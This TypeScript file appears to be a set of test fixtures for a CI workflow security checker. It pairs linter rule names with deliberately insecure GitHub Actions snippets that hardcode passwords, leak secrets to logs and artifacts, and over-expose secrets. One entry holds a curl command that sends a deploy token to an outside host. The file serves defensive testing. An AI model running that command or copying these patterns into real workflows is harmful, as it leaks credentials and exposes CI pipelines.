import { CI, expression, job, type WorkflowRow } from './workflow-file.ts';

/** What becomes of secrets in workflows. */
export const WORKFLOW_SECRETS: Readonly<Record<string, WorkflowRow>> = {
  'secrets/container-credentials': [
    'zizmor hardcoded-container-credentials',
    job(
      'push',
      '- run: make',
      'container:\n  image: registry.partner.test/build:1\n  credentials: { username: ci, password: hackme-7Vq2 }',
    ),
  ],
  'secrets/exfiltration': [
    'StepSecurity: secrets sent by curl',
    job(
      'push',
      `- run: curl -d "token=$TOKEN" http://collect.partner-stats.com/ci\n  env: { TOKEN: "${expression('secrets.DEPLOY_TOKEN')}" }`,
    ),
  ],
  'secrets/given-to-branch': [
    'GitHub: pin actions to a full-length commit SHA',
    job('push', `- uses: octo-org/publish@main\n  with: { token: "${expression('secrets.PUBLISH_TOKEN')}" }`),
  ],
  'secrets/hardcoded': [
    'GitHub: never put a secret in a workflow file',
    job('push', '- run: ./deploy', 'env: { DEPLOY_PASSWORD: "vT5xQ9kLm2Wz8RbN4cYj" }'),
  ],
  'secrets/in-artifacts': [
    'Unit 42: ArtiPACKED',
    job(
      'push',
      `- run: echo "TOKEN=${expression('secrets.API_TOKEN')}" > .env\n- uses: actions/upload-artifact@v4\n  with: { name: app, path: .env, include-hidden-files: true }`,
    ),
  ],
  'secrets/in-condition': [
    'actionlint: the secrets context is not available',
    job('push', '- run: ./deploy', "if: secrets.DEPLOY_KEY != ''"),
  ],
  'secrets/in-logs': [
    'GitHub: registering values as secrets',
    job('push', `- run: echo "$TOKEN" | base64\n  env: { TOKEN: "${expression('secrets.API_TOKEN')}" }`),
  ],
  'secrets/inherit': [
    'zizmor secrets-inherit',
    {
      [CI]: 'name: CI\non: push\njobs:\n  call:\n    uses: octo-org/shared/.github/workflows/build.yml@v1\n    secrets: inherit\n',
    },
  ],
  'secrets/outside-environment': [
    'zizmor secrets-outside-env',
    job('push', `- run: ./deploy\n  env: { KEY: "${expression('secrets.DEPLOY_KEY')}" }`),
  ],
  'secrets/overprovisioned': [
    'zizmor overprovisioned-secrets',
    job('push', `- run: ./deploy\n  env: { ALL: "${expression('toJSON(secrets)')}" }`),
  ],
  'secrets/persisted-credentials': [
    'zizmor artipacked',
    job(
      'push',
      '- uses: actions/checkout@v4\n- run: npm ci\n- uses: actions/upload-artifact@v4\n  with: { path: ., include-hidden-files: true }',
    ),
  ],
  'secrets/trusted-publishing': [
    'zizmor use-trusted-publishing',
    job(
      'release',
      `- uses: pypa/gh-action-pypi-publish@release/v1\n  with: { password: "${expression('secrets.PYPI_TOKEN')}" }`,
    ),
  ],
  'secrets/unredacted': [
    'zizmor unredacted-secrets',
    job('push', `- run: ./login\n  env: { USER: "${expression('fromJSON(secrets.ACCOUNT).user')}" }`),
  ],
};
